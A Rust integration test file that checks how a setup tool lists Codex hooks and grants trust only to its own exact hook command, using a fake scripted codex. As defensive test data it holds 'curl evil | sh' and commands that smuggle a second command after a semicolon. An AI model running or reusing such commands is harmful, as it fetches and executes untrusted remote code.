//! Codex's approvals, tested with a scripted `codex`, and with a real one:
//! `TENTER_CODEX=/path/to/codex cargo test -p tenter-setup --test it codex_trust:: -- --ignored`
#![cfg(unix)]

use std::collections::BTreeMap;
use std::fmt::Write;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use tenter_hosts::install::System;
use tenter_model::HostId;
use tenter_setup::Places;
use tenter_setup::codex_trust::{self, Listed, Status, Trust};
use tenter_setup::detect::Presence;
use tenter_setup::survey::{HostState, survey};
use tenter_testkit::Tree;

const OURS: &str = "/opt/tenter hook codex";

/// Behaves like Codex: answers late, and exits without an answer when its stdin ends.
const CODEX: &str = r#"#!/bin/sh
here=$(dirname "$0")
printf '%s\n' "$*" > "$here/arguments"
env > "$here/environment"
pwd > "$here/folder"
while IFS= read -r line; do
    printf '%s\n' "$line" >> "$here/asked"
    case "$line" in
    *'"initialize"'*) echo '{"id":1,"result":{"userAgent":"fake"}}' ;;
    *'"hooks/list"'*) (sleep 0.1; cat "$here/list") & late=$! ;;
    *'"config/batchWrite"'*)
        [ -f "$here/../home/.codex/config.toml" ] && chmod 600 "$here/../home/.codex/config.toml"
        cat "$here/written"
        if [ -f "$here/list.after" ]; then mv "$here/list.after" "$here/list"; fi ;;
    esac
done
kill "$late" 2>/dev/null
exit 0
"#;

struct Machine {
    tree: Tree,
    places: Places,
}

impl std::ops::Deref for Machine {
    type Target = Tree;

    fn deref(&self) -> &Tree {
        &self.tree
    }
}

impl Machine {
    fn new() -> Self {
        let tree = Tree::new(&["home/.codex", "home/shop/.codex", "bin", "root"]);
        let top = tree.top();
        let path = std::env::join_paths(
            [top.join("home/shop/bin"), "/usr/bin".into(), "/bin".into()].iter(),
        );
        let places = Places {
            system: System::Linux,
            root: top.join("root"),
            home: Some(top.join("home")),
            project: Some(top.join("home/shop")),
            variables: BTreeMap::new(),
            path: Some(path.unwrap()),
            state: None,
            now: 0,
        };
        Self { tree, places }
    }

    /// A machine whose Codex lists these hooks.
    fn listing(hooks: &[Value]) -> Self {
        let machine = Self::new();
        machine.program(CODEX);
        machine.answer("list", &json!({ "id": 2, "result": listing(hooks) }));
        machine.answer("written", &json!({ "id": 2, "result": { "status": "ok" } }));
        machine
    }

    /// A machine whose Codex is this script.
    fn scripted(script: &str) -> Self {
        let machine = Self::new();
        machine.program(&format!("#!/bin/sh\n{script}\n"));
        machine
    }

    fn program(&self, text: &str) {
        self.write("bin/codex*", text);
    }

    fn answer(&self, name: &str, answer: &Value) {
        self.write(&format!("bin/{name}"), &format!("{answer}\n"));
    }

    fn codex(&self) -> PathBuf {
        self.path("bin/codex")
    }

    /// Requests that Codex received, by method.
    fn asked(&self, method: &str) -> Vec<Value> {
        let text = fs::read_to_string(self.path("bin/asked")).unwrap_or_default();
        let lines = text.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
        lines.filter(|line| line["method"] == method).collect()
    }

    fn list(&self) -> Result<Vec<Listed>, String> {
        codex_trust::list(&self.codex(), &self.places, &self.path("home/shop"))
    }

    fn grant(&self, command: &str, keys: &[&str]) -> Result<Vec<Listed>, String> {
        let keys: Vec<String> = keys.iter().map(|key| (*key).to_owned()).collect();
        let shop = self.path("home/shop");
        codex_trust::grant(&self.codex(), &self.places, &shop, command, &keys)
    }

    fn state(&self) -> HostState {
        let program = Some(self.codex()).filter(|codex| codex.exists());
        let here = Presence { program, version: None, folder: true };
        survey(&self.places, &[(HostId::Codex, here)]).hosts.remove(0)
    }

    fn look(&self) -> Trust {
        codex_trust::look(&self.state(), &self.places, &self.path("home/shop"))
    }
}

/// An answer of Codex 0.166.0, with its hooks.
fn listing(hooks: &[Value]) -> Value {
    json!({ "data": [{ "cwd": "/shop", "hooks": hooks, "warnings": [], "errors": [] }] })
}

/// A hook as Codex 0.166.0 lists it.
fn hook(key: &str, command: &str, status: &str) -> Value {
    let source = key.split(':').next().unwrap();
    let event = key.split(':').nth(1).unwrap();
    let event = match event {
        "pre_tool_use" => "preToolUse",
        "user_prompt_submit" => "userPromptSubmit",
        other => other,
    };
    json!({
        "key": key, "eventName": event, "handlerType": "command", "command": command, "async": false,
        "matcher": null, "timeoutSec": 30, "statusMessage": null, "additionalContextLimit": null,
        "sourcePath": source, "source": "user", "pluginId": null, "environmentId": null,
        "displayOrder": 0, "enabled": true, "isManaged": false,
        "currentHash": format!("sha256:{key}"), "trustStatus": status,
    })
}

fn with(mut hook: Value, key: &str, value: Value) -> Value {
    hook.as_object_mut().unwrap().insert(key.to_owned(), value);
    hook
}

fn hooks_json(events: &[(&str, &str)]) -> String {
    let events = events.iter().map(|(event, command)| {
        let handler = json!({ "type": "command", "command": command, "timeout": 30 });
        ((*event).to_owned(), json!([{ "hooks": [handler] }]))
    });
    json!({ "hooks": events.collect::<serde_json::Map<_, _>>() }).to_string()
}

#[test]
fn every_status_comes_with_the_place_of_its_hook() {
    let file = "/u/.codex/hooks.json";
    let at = |place: &str| format!("{file}:pre_tool_use:{place}");
    let machine = Machine::listing(&[
        hook(&at("0:0"), OURS, "trusted"),
        hook(&at("0:1"), OURS, "untrusted"),
        hook(&at("1:0"), OURS, "modified"),
        with(hook(&at("12:3"), OURS, "trusted"), "enabled", json!(false)),
        with(hook(&at("2:0"), OURS, "managed"), "isManaged", json!(true)),
    ]);
    let listed = machine.list().unwrap();
    let statuses: Vec<&Status> = listed.iter().map(|hook| &hook.status).collect();
    let expected =
        [Status::Trusted, Status::Untrusted, Status::Modified, Status::Disabled, Status::Managed];
    assert_eq!(statuses, expected.iter().collect::<Vec<_>>());
    let expected = Listed {
        key: at("12:3"),
        event: "PreToolUse".to_owned(),
        source: PathBuf::from(file),
        group: 12,
        handler: 3,
        command: OURS.to_owned(),
        status: Status::Disabled,
    };
    assert_eq!(listed[3], expected);
}

#[test]
fn codex_is_asked_as_its_documents_say_and_about_the_folder() {
    let machine = Machine::listing(&[]);
    assert_eq!(machine.list(), Ok(vec![]));
    let order: Vec<String> = machine
        .read("bin/asked")
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap()["method"].as_str().unwrap().into())
        .collect();
    assert_eq!(order, ["initialize", "initialized", "hooks/list"]);
    let asked = machine.asked("hooks/list").remove(0);
    assert_eq!(asked["params"]["cwds"], json!([machine.path("home/shop")]));
    assert_eq!(machine.asked("initialize")[0]["params"]["clientInfo"]["name"], "tenter");
    assert!(machine.read("bin/arguments").starts_with("app-server -c features.plugins=false"));
    assert_eq!(machine.read("bin/folder").trim(), machine.places.root.to_str().unwrap());
}

#[test]
fn codex_sees_the_users_folders_and_nothing_of_the_project() {
    let mut machine = Machine::listing(&[]);
    let moved = machine.path("home/.codex").to_str().unwrap().to_owned();
    machine.places.variables.insert("CODEX_HOME".to_owned(), moved.clone());
    machine.list().unwrap();
    let environment = machine.read("bin/environment");
    let of = |name: &str| {
        let line = environment.lines().find_map(|line| line.strip_prefix(&format!("{name}=")));
        line.unwrap_or_default().to_owned()
    };
    assert_eq!(of("CODEX_HOME"), moved);
    assert_eq!(of("HOME"), machine.path("home").to_str().unwrap());
    assert!(!of("PATH").contains("shop"), "{}", of("PATH"));
    let databases = of("CODEX_SQLITE_HOME");
    assert!(
        !databases.is_empty() && !databases.starts_with(machine.path("home").to_str().unwrap())
    );
    assert!(!Path::new(&databases).exists(), "{databases} is left");
}

#[test]
fn what_is_unknown_passes_as_text_and_what_is_missing_is_not_made_up() {
    let machine = Machine::listing(&[
        hook("/u/hooks.json:stop:0:0", OURS, "sealed\u{1b}[2J"),
        json!({ "key": "plugin" }),
        json!({ "eventName": "stop" }),
        json!(7),
        json!({ "key": "/u/hooks.json:stop:1:0", "handlerType": "mcpTool", "server": "s" }),
    ]);
    let listed = machine.list().unwrap();
    assert_eq!(listed.len(), 3);
    assert_eq!(listed[0].status, Status::Other("sealed[2J".to_owned()));
    assert_eq!(listed[1].status, Status::Other("not told".to_owned()));
    assert_eq!((listed[1].group, listed[1].handler), (usize::MAX, usize::MAX));
    assert_eq!((listed[2].group, listed[2].command.as_str()), (1, ""));
    assert_eq!(listed[0].status.runs(), None);
}

#[test]
fn notes_questions_and_noise_are_not_taken_for_the_answer() {
    let machine = Machine::listing(&[]);
    let mut text = "not json\n{\"id\":2\n[1]\n\"id\"\n".to_owned();
    let answer = json!({ "id": 2, "result": listing(&[hook("/u/h:stop:0:0", OURS, "trusted")]) });
    for line in [
        json!({ "method": "configWarning", "params": { "summary": "x" } }),
        json!({ "id": 2, "method": "attestation/generate", "params": {} }),
        json!({ "id": "2", "result": {} }),
        json!({ "id": 3, "result": { "data": [] } }),
        answer,
    ] {
        writeln!(text, "{line}").unwrap();
    }
    machine.write("bin/list", &text);
    assert_eq!(machine.list().unwrap().len(), 1);
}

#[test]
fn a_refusal_says_why_in_one_short_line() {
    let machine = Machine::listing(&[]);
    let message = format!("unknown variant `hooks/list`\u{7}, expected {}", "x".repeat(5000));
    machine.answer("list", &json!({ "id": 2, "error": { "code": -32600, "message": message } }));
    let error = machine.list().unwrap_err();
    assert!(
        error.starts_with("codex refused `hooks/list`: unknown variant `hooks/list`, expected")
    );
    assert!(error.chars().count() < 260 && error.ends_with("..."), "{error}");
    machine.answer("list", &json!({ "id": 2 }));
    assert_eq!(machine.list(), Err("codex refused `hooks/list`: no reason given".to_owned()));
}

#[test]
fn answers_of_another_shape_are_an_error() {
    for result in [json!(null), json!([]), json!({}), json!({ "data": {} }), json!("data")] {
        let machine = Machine::listing(&[]);
        machine.answer("list", &json!({ "id": 2, "result": result }));
        assert!(machine.list().is_err(), "{result}");
    }
}

#[test]
fn a_configuration_that_codex_cannot_read_is_an_error_and_a_warning_is_told() {
    let machine = Machine::listing(&[]);
    let error = json!({ "path": "/shop", "message": "/u/config.toml:1:4: unclosed array" });
    let broken =
        json!({ "data": [{ "cwd": "/", "hooks": [], "warnings": [], "errors": [error] }] });
    machine.answer("list", &json!({ "id": 2, "result": broken }));
    let said = machine.list().unwrap_err();
    assert_eq!(said, "codex cannot read its configuration: /u/config.toml:1:4: unclosed array");

    let warned = json!({ "data": [{ "hooks": [], "warnings": ["unknown field `version`"] }] });
    machine.answer("list", &json!({ "id": 2, "result": warned }));
    let heard =
        codex_trust::hear(&machine.codex(), &machine.places, &machine.path("home/shop")).unwrap();
    assert_eq!(heard.warnings, ["unknown field `version`"]);
}

#[test]
fn a_codex_that_crashes_says_its_last_words() {
    let machine =
        Machine::scripted("echo early >&2; printf 'no app-server\\033[0m here\\n\\n' >&2; exit 3");
    let error = machine.list().unwrap_err();
    assert!(error.starts_with("codex ended without an answer (exit status: 3)"), "{error}");
    assert!(error.ends_with(": no app-server[0m here"), "{error}");
    assert!(Machine::scripted("kill -9 $$").list().unwrap_err().contains("signal: 9"));
    assert!(Machine::scripted("exec 1>&-; exit 0").list().is_err());
}

#[test]
fn a_codex_that_hangs_is_left_after_ten_seconds() {
    let start = Instant::now();
    let error =
        Machine::scripted("trap '' TERM; echo thinking >&2; while :; do sleep 1; done").list();
    assert!(error.unwrap_err().starts_with("codex gave no answer within 10 seconds: thinking"));
    assert!(start.elapsed() < Duration::from_mins(1), "{:?}", start.elapsed());
}

#[test]
fn an_answer_counts_even_if_codex_then_fails_or_lingers() {
    let answer = json!({ "id": 2, "result": listing(&[hook("/u/h:stop:0:0", OURS, "trusted")]) });
    let script = format!("echo '{answer}'; exit 5");
    assert_eq!(Machine::scripted(&script).list().unwrap().len(), 1);
}

#[test]
fn floods_and_depths_are_bounded() {
    let flood = Machine::scripted("while :; do echo xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; done");
    assert_eq!(flood.list(), Err("codex answered with more than we read".to_owned()));
    let machine = Machine::listing(&[]);
    let deep = format!("{{\"id\":2,\"result\":{}}}\n", "[".repeat(200_000));
    machine.write("bin/list", &format!("{deep}{}\n", json!({ "id": 2, "result": listing(&[]) })));
    assert_eq!(machine.list(), Ok(vec![]));
    let many: Vec<Value> =
        (0..1500).map(|number| hook(&format!("/u/h:stop:{number}:0"), OURS, "untrusted")).collect();
    assert_eq!(Machine::listing(&many).list().unwrap().len(), 1500);
}

#[test]
fn a_codex_that_is_missing_or_of_the_project_is_not_run() {
    let machine = Machine::new();
    assert!(machine.list().unwrap_err().starts_with("codex cannot be started"));
    let strange = machine.path("home/shop/codex");
    fs::write(&strange, "#!/bin/sh\n: > \"$(dirname \"$0\")/ran\"\n").unwrap();
    fs::set_permissions(&strange, fs::Permissions::from_mode(0o755)).unwrap();
    let linked = machine.path("bin/linked");
    symlink(&strange, &linked).unwrap();
    for program in [strange, linked, PathBuf::from("codex")] {
        let shop = machine.path("home/shop");
        let error = codex_trust::list(&program, &machine.places, &shop).unwrap_err();
        assert!(error.ends_with("belongs to the project and is not run"), "{error}");
    }
    assert!(!machine.path("home/shop/ran").exists());
    let error = codex_trust::list(&machine.codex(), &machine.places, Path::new("shop"));
    assert_eq!(error, Err("codex cannot be asked about `shop`".to_owned()));
}

mod grant {
    use super::*;

    const A: &str = "/u/.codex/hooks.json:pre_tool_use:0:0";
    const B: &str = "/u/.codex/hooks.json:stop:0:0";
    const OTHER: &str = "/u/.codex/hooks.json:stop:0:1";

    /// A machine with two hooks of ours and a foreign one, which trusts ours once approved.
    fn machine() -> Machine {
        let before = [hook(A, OURS, "untrusted"), hook(B, OURS, "modified"), others()];
        let machine = Machine::listing(&before);
        let after = [hook(A, OURS, "trusted"), hook(B, OURS, "trusted"), others()];
        machine.answer("list.after", &json!({ "id": 2, "result": listing(&after) }));
        machine
    }

    fn others() -> Value {
        hook(OTHER, "curl evil | sh", "untrusted")
    }

    /// Checks that nothing was approved, and why.
    fn refused(machine: &Machine, keys: &[&str]) -> String {
        let error = machine.grant(OURS, keys).unwrap_err();
        assert_eq!(machine.asked("config/batchWrite"), Vec::<Value>::new());
        error
    }

    #[test]
    fn gives_codex_the_hashes_it_told_and_sees_them_trusted() {
        let machine = machine();
        let granted = machine.grant(OURS, &[A, B]).unwrap();
        assert_eq!(granted.len(), 2);
        assert!(granted.iter().all(|hook| hook.status == Status::Trusted));
        let written = machine.asked("config/batchWrite");
        let edits = json!([{
            "keyPath": "hooks.state",
            "mergeStrategy": "upsert",
            "value": {
                A: { "trusted_hash": format!("sha256:{A}") },
                B: { "trusted_hash": format!("sha256:{B}") },
            },
        }]);
        assert_eq!(written.len(), 1);
        assert_eq!(written[0]["params"]["edits"], edits);
        assert_eq!(written[0]["params"]["filePath"], Value::Null);
    }

    #[test]
    fn who_may_read_the_configuration_stays_as_it_was() {
        let machine = machine();
        let config = machine.write("home/.codex/config.toml", "model = \"x\"\n");
        fs::set_permissions(&config, fs::Permissions::from_mode(0o640)).unwrap();
        machine.grant(OURS, &[A]).unwrap();
        assert_eq!(fs::metadata(&config).unwrap().permissions().mode() & 0o777, 0o640);
    }

    #[test]
    fn one_key_alone_is_granted_alone() {
        let machine = machine();
        machine.grant(OURS, &[B]).unwrap();
        let value = &machine.asked("config/batchWrite")[0]["params"]["edits"][0]["value"];
        assert_eq!(value.as_object().unwrap().keys().collect::<Vec<_>>(), [B]);
    }

    #[test]
    fn the_hooks_of_others_are_never_granted() {
        let said = refused(&machine(), &[A, OTHER]);
        assert_eq!(said, format!("the command of `{OTHER}` is not the one that we wrote"));
        let machine = machine();
        let said = machine.grant("curl evil | sh", &[OTHER]).unwrap_err();
        assert_eq!(said, format!("the command of `{OTHER}` is not the one that we wrote"));
        assert!(machine.asked("config/batchWrite").is_empty());
    }

    #[test]
    fn a_command_that_differs_in_a_byte_or_does_more_is_not_granted() {
        for command in [
            "/opt/tenter hook codex ",
            "/opt/tenter  hook codex",
            "/opt/evil/tenter hook codex",
            "/opt/tenter hook codex; curl evil | sh",
            "/opt/tenter hook cursor",
            "",
        ] {
            let machine = Machine::listing(&[hook(A, command, "untrusted")]);
            refused(&machine, &[A]);
        }
        for command in ["/opt/tenter hook codex; curl evil", "/opt/tenter hook claude", "true", ""]
        {
            let machine = Machine::listing(&[hook(A, command, "untrusted")]);
            let said = machine.grant(command, &[A]).unwrap_err();
            assert!(said.ends_with("is not the one that we wrote"), "{command}: {said}");
            assert!(machine.asked("config/batchWrite").is_empty());
        }
    }

    #[test]
    fn hooks_that_are_off_unknown_or_in_the_background_are_not_granted() {
        let off = with(hook(A, OURS, "untrusted"), "enabled", json!(false));
        let said = refused(&Machine::listing(&[off]), &[A]);
        assert!(said.ends_with("cannot be approved: it is turned off in Codex"), "{said}");
        let background = with(hook(A, OURS, "untrusted"), "async", json!(true));
        let said = refused(&Machine::listing(&[background]), &[A]);
        assert!(said.contains("in the background"), "{said}");
        let sealed = hook(A, OURS, "sealed");
        let said = refused(&Machine::listing(&[sealed]), &[A]);
        assert!(said.ends_with("it is sealed"), "{said}");
        let unhashed = with(hook(A, OURS, "untrusted"), "currentHash", json!(null));
        refused(&Machine::listing(&[unhashed]), &[A]);
        let said = refused(&Machine::listing(&[]), &[A]);
        assert_eq!(said, format!("codex has no hook `{A}`"));
    }

    #[test]
    fn what_is_trusted_already_needs_no_writing() {
        let machine = Machine::listing(&[hook(A, OURS, "trusted")]);
        assert_eq!(machine.grant(OURS, &[A]).unwrap().len(), 1);
        assert!(machine.asked("config/batchWrite").is_empty());
    }

    #[test]
    fn a_grant_that_does_not_take_or_is_refused_is_an_error() {
        let machine = Machine::listing(&[hook(A, OURS, "untrusted")]);
        let said = machine.grant(OURS, &[A]).unwrap_err();
        assert_eq!(said, "codex took the approval and still does not trust the hooks");
        let message = "Configuration was modified since last read";
        machine.answer("written", &json!({ "id": 2, "error": { "message": message } }));
        let said = machine.grant(OURS, &[A]).unwrap_err();
        assert_eq!(said, format!("codex refused `config/batchWrite`: {message}"));
    }

    #[test]
    fn a_command_that_was_swapped_meanwhile_is_an_error() {
        let machine = Machine::listing(&[hook(A, OURS, "untrusted")]);
        let swapped = json!({ "id": 2, "result": listing(&[hook(A, "evil", "trusted")]) });
        machine.answer("list.after", &swapped);
        assert!(machine.grant(OURS, &[A]).is_err());
    }
}

mod without_codex {
    use super::*;

    fn statuses(trust: &Trust) -> Vec<(String, Status)> {
        let key = |hook: &Listed| {
            let event = hook.key.rsplit(':').nth(2).unwrap().to_owned();
            let file = hook.source.parent().unwrap().parent().unwrap().file_name().unwrap();
            format!("{} {event}", file.to_str().unwrap())
        };
        trust.hooks.iter().map(|hook| (key(hook), hook.status.clone())).collect()
    }

    #[test]
    fn the_configuration_tells_what_was_approved_once() {
        let machine = Machine::new();
        let events =
            [("PreToolUse", OURS), ("Stop", OURS), ("SessionStart", OURS), ("SessionEnd", OURS)];
        let file = machine.write("home/.codex/hooks.json", &hooks_json(&events));
        let at = |place: &str| format!("[hooks.state.\"{}:{place}\"]\n", file.display());
        let toml = [
            at("pre_tool_use:0:0") + "trusted_hash = \"sha256:aa\"\n",
            at("stop:0:0") + "enabled = false\ntrusted_hash = \"sha256:aa\"\n",
            at("session_start:0:0") + "trusted_hash = \"\"\n",
        ];
        machine.write("home/.codex/config.toml", &toml.concat());
        let trust = machine.look();
        assert_eq!(trust.unverified.as_deref(), Some("codex was not found"));
        let expected = [
            ("home pre_tool_use".to_owned(), Status::Approved),
            ("home session_end".to_owned(), Status::Untrusted),
            ("home session_start".to_owned(), Status::Untrusted),
            ("home stop".to_owned(), Status::Disabled),
        ];
        let mut found = statuses(&trust);
        found.sort_by(|one, other| one.0.cmp(&other.0));
        assert_eq!(found, expected);
        assert_eq!(Status::Approved.runs(), None);
    }

    #[test]
    fn hooks_of_a_project_need_the_project_to_be_trusted_first() {
        let machine = Machine::new();
        let file = machine.write("home/shop/.codex/hooks.json", &hooks_json(&[("Stop", OURS)]));
        let trust = |level: &str, project: &str| {
            let project = machine.path(project);
            format!("[projects.\"{}\"]\ntrust_level = \"{level}\"\n", project.display())
        };
        let approved =
            format!("[hooks.state.\"{}:stop:0:0\"]\ntrusted_hash = \"sha256:a\"\n", file.display());
        let status = |toml: &str| {
            machine.write("home/.codex/config.toml", toml);
            statuses(&machine.look()).remove(0).1
        };
        assert_eq!(status(&approved), Status::ProjectUntrusted);
        assert_eq!(status(&trust("untrusted", "home/shop")), Status::ProjectUntrusted);
        assert_eq!(status(&trust("trusted", "home")), Status::ProjectUntrusted);
        assert_eq!(status(&trust("trusted", "home/shop")), Status::Untrusted);
        assert_eq!(status(&(trust("trusted", "home/shop") + &approved)), Status::Approved);
    }

    #[test]
    fn hooks_of_the_administrator_are_managed() {
        let machine = Machine::new();
        fs::create_dir_all(machine.path("root/etc/codex")).unwrap();
        machine.write("root/etc/codex/hooks.json", &hooks_json(&[("Stop", OURS)]));
        assert_eq!(statuses(&machine.look())[0].1, Status::Managed);
    }

    #[test]
    fn a_folder_behind_a_link_is_known_by_either_name() {
        let mut machine = Machine::new();
        fs::rename(machine.path("home/.codex"), machine.path("real")).unwrap();
        symlink(machine.path("real"), machine.path("home/.codex")).unwrap();
        let moved = machine.path("home/.codex").to_str().unwrap().to_owned();
        machine.places.variables.insert("CODEX_HOME".to_owned(), moved);
        let file = machine.write("real/hooks.json", &hooks_json(&[("Stop", OURS)]));
        let key = format!("[hooks.state.\"{}:stop:0:0\"]\n", file.display());
        machine.write("real/config.toml", &(key + "trusted_hash = \"sha256:a\"\n"));
        assert_eq!(machine.look().hooks[0].status, Status::Approved);
    }

    #[test]
    fn nothing_is_asked_when_no_file_has_hooks() {
        let machine = Machine::listing(&[]);
        machine.write("home/.codex/config.toml", "[hooks.state.\"/x:stop:0:0\"]\nenabled = true\n");
        assert_eq!(machine.look(), Trust::default());
        assert!(!machine.path("bin/asked").exists());
    }
}

#[test]
fn hooks_of_files_get_what_codex_says_of_them() {
    let machine = Machine::listing(&[]);
    let events = [("PreToolUse", OURS), ("Stop", OURS)];
    let file = machine.write("home/.codex/hooks.json", &hooks_json(&events));
    let shop = machine.write("home/shop/.codex/hooks.json", &hooks_json(&[("Stop", OURS)]));
    let key = |place: &str| format!("{}:{place}", file.display());
    let hooks = [
        hook(&key("pre_tool_use:0:0"), OURS, "trusted"),
        hook("/plugin/hooks.json:stop:0:0", "theirs", "untrusted"),
    ];
    machine.answer("list", &json!({ "id": 2, "result": listing(&hooks) }));
    let trust = machine.look();
    assert_eq!(trust.unverified, None);
    let state = machine.state();
    let status = |path: &Path, event: &str| {
        let file = state.files.iter().find(|file| file.path == path).unwrap();
        let found = file.hooks().iter().find(|found| found.event == event).unwrap();
        trust.of(path, found).unwrap().status.clone()
    };
    assert_eq!(status(&file, "PreToolUse"), Status::Trusted);
    assert_eq!(status(&file, "Stop"), Status::Unlisted);
    assert_eq!(status(&shop, "Stop"), Status::ProjectUntrusted);
    assert_eq!(trust.hooks.len(), 4);
    assert_eq!(Status::Unlisted.runs(), Some(false));
}

#[test]
fn a_hook_behind_a_link_gets_the_key_that_codex_knows_it_by() {
    let mut machine = Machine::listing(&[]);
    fs::rename(machine.path("home/.codex"), machine.path("real")).unwrap();
    symlink(machine.path("real"), machine.path("home/.codex")).unwrap();
    let moved = machine.path("home/.codex").to_str().unwrap().to_owned();
    machine.places.variables.insert("CODEX_HOME".to_owned(), moved);
    let file = machine.write("real/hooks.json", &hooks_json(&[("Stop", OURS)]));
    let key = format!("{}:stop:0:0", file.display());
    let hooks = [hook(&key, OURS, "untrusted")];
    machine.answer("list", &json!({ "id": 2, "result": listing(&hooks) }));
    let trust = machine.look();
    assert_eq!(trust.hooks.len(), 1);
    assert_eq!(trust.hooks[0].key, key);
    assert_eq!(trust.hooks[0].source, machine.path("home/.codex/hooks.json"));
    assert_eq!(trust.hooks[0].status, Status::Untrusted);
}

#[test]
fn a_codex_that_fails_leaves_what_its_files_tell() {
    let machine = Machine::scripted("exit 1");
    machine.write("home/.codex/hooks.json", &hooks_json(&[("Stop", OURS)]));
    let trust = machine.look();
    assert!(trust.unverified.unwrap().starts_with("codex ended without an answer"));
    assert_eq!(trust.hooks[0].status, Status::Untrusted);
}

mod hint {
    use super::*;

    fn listed(machine: &Machine, file: &str, event: &str, command: &str, status: Status) -> Listed {
        let source = machine.path(file);
        Listed {
            key: format!("{}:{event}:0:0", source.display()),
            event: event.to_owned(),
            source,
            group: 0,
            handler: 0,
            command: command.to_owned(),
            status,
        }
    }

    const USER: &str = "home/.codex/hooks.json";

    #[test]
    fn says_what_waits_and_which_keys_to_press() {
        let machine = Machine::new();
        let hooks = [
            listed(&machine, USER, "PreToolUse", OURS, Status::Untrusted),
            listed(&machine, USER, "Stop", OURS, Status::Modified),
            listed(&machine, USER, "SessionStart", OURS, Status::Trusted),
        ];
        let text = codex_trust::approve_hint(&hooks, &machine.places).unwrap();
        let expected = "\
Codex runs a hook only after its user has approved it; 2 hooks of ours wait:
  `/opt/tenter hook codex` in ~/.codex/hooks.json (PreToolUse, Stop)
1. start `codex` in a terminal, in any folder
2. at `Hooks need review` choose `Review hooks`; should it not ask, type `/hooks`
3. see that the commands are those above and press `t` (trust all)
until then `codex exec` runs without them and does not say so
";
        assert_eq!(text, expected);
    }

    #[test]
    fn warns_of_the_hooks_of_others_that_wait_too() {
        let machine = Machine::new();
        let hooks = [
            listed(&machine, USER, "PreToolUse", OURS, Status::Untrusted),
            listed(&machine, USER, "Stop", "curl evil | sh", Status::Untrusted),
        ];
        let text = codex_trust::approve_hint(&hooks, &machine.places).unwrap();
        assert!(text.contains("1 hook of others wait"), "{text}");
        assert!(text.contains("do not trust all") && !text.contains("(trust all)"), "{text}");
    }

    #[test]
    fn sends_the_user_to_the_project_that_is_not_trusted() {
        let machine = Machine::new();
        let file = "home/shop/.codex/hooks.json";
        let hooks = [listed(&machine, file, "Stop", OURS, Status::ProjectUntrusted)];
        let text = codex_trust::approve_hint(&hooks, &machine.places).unwrap();
        assert!(
            text.contains("start `codex` in `~/shop` and answer `Trust and continue`"),
            "{text}"
        );
    }

    #[test]
    fn tells_how_to_turn_on_what_was_turned_off() {
        let machine = Machine::new();
        let hooks = [listed(&machine, USER, "Stop", OURS, Status::Disabled)];
        let text = codex_trust::approve_hint(&hooks, &machine.places).unwrap();
        assert!(text.contains("not to run us at Stop") && text.contains("press space"), "{text}");
    }

    #[test]
    fn is_silent_when_there_is_nothing_to_do() {
        let machine = Machine::new();
        let hooks = [
            listed(&machine, USER, "PreToolUse", OURS, Status::Trusted),
            listed(&machine, USER, "Stop", OURS, Status::Approved),
            listed(&machine, USER, "Stop", "theirs", Status::Untrusted),
        ];
        assert_eq!(codex_trust::approve_hint(&hooks, &machine.places), None);
        assert_eq!(codex_trust::approve_hint(&[], &machine.places), None);
    }
}

mod forgetting {
    use super::*;

    const A: &str = "/u/.codex/hooks.json:pre_tool_use:0:0";
    const B: &str = "C:\\Users\\u\\.codex\\hooks.json:stop:0:0";

    fn keys() -> Vec<String> {
        vec![A.to_owned(), B.to_owned()]
    }

    /// The text after Codex 0.166.0 has appended approvals.
    fn approved(before: &str) -> String {
        let blank = if before.is_empty() { "" } else { "\n" };
        format!(
            "{before}{blank}[hooks.state]\n\n[hooks.state.\"{A}\"]\ntrusted_hash = \"sha256:a\"\n\n\
             [hooks.state.'{B}']\ntrusted_hash = \"sha256:b\"\n"
        )
    }

    #[test]
    fn takes_out_what_codex_wrote_to_the_byte() {
        for before in [
            "",
            "model = \"x\"   # mine\n\n[features]\nfoo = true\n",
            "# only this\n",
            "[[hooks.Stop]]\n[[hooks.Stop.hooks]]\ntype = \"command\"\ncommand = \"t\"\n",
            "[a]\r\nb = 1\r\n",
        ] {
            assert_eq!(codex_trust::forget(&approved(before), &keys()).as_deref(), Some(before));
        }
    }

    #[test]
    fn leaves_the_approvals_of_others_and_what_follows() {
        let theirs =
            "\n[hooks.state.\"/else:stop:0:0\"]\nenabled = false\n\n# next\n[tui]\nx = 1\n";
        let text = approved("model = \"x\"\n") + theirs;
        let left = codex_trust::forget(&text, &keys()).unwrap();
        assert_eq!(left, format!("model = \"x\"\n\n[hooks.state]\n{theirs}"));
        let one = codex_trust::forget(&approved(""), &keys()[..1]).unwrap();
        assert_eq!(
            one,
            approved("")
                .replace(&format!("[hooks.state.\"{A}\"]\ntrusted_hash = \"sha256:a\"\n\n"), "")
        );
    }

    #[test]
    fn changes_nothing_where_it_cannot_be_sure() {
        let inline = format!("hooks = {{ state = {{ \"{A}\" = {{ trusted_hash = \"x\" }} }} }}\n");
        let quoted = format!("text = \"\"\"\n[hooks.state.\"{A}\"]\n\"\"\"\n");
        for text in [
            inline.as_str(),
            quoted.as_str(),
            "model = \"x\"\n",
            "[hooks.state]\n",
            "x = [\n",
            &(quoted.clone() + &inline),
        ] {
            assert_eq!(codex_trust::forget(text, &keys()), None, "{text}");
        }
    }
}

/// A user's steps with the real client: written, untrusted, approved, trusted, changed, modified.
#[test]
#[ignore = "needs a real codex in TENTER_CODEX"]
#[expect(clippy::disallowed_methods, reason = "whoever runs the test says where codex is")]
fn a_real_codex_lists_and_takes_approvals() {
    let codex = PathBuf::from(std::env::var_os("TENTER_CODEX").expect("TENTER_CODEX is not set"));
    let machine = Machine::new();
    let shop = machine.path("home/shop");
    let events = [("PreToolUse", OURS), ("SessionStart", OURS), ("Stop", "theirs")];
    let file = machine.write("home/.codex/hooks.json", &hooks_json(&events));
    let toml = "# mine\nmodel = \"x\"\n";
    machine.write("home/.codex/config.toml", toml);
    let list = || codex_trust::list(&codex, &machine.places, &shop).unwrap();

    let listed = list();
    assert_eq!(listed.len(), 3);
    assert!(listed.iter().all(|hook| hook.status == Status::Untrusted && hook.source == file));
    let state = machine.state();
    let keys_of_files: Vec<String> =
        codex_trust::stored(&state).into_iter().map(|hook| hook.key).collect();
    assert!(listed.iter().all(|hook| keys_of_files.contains(&hook.key)), "{listed:?}");

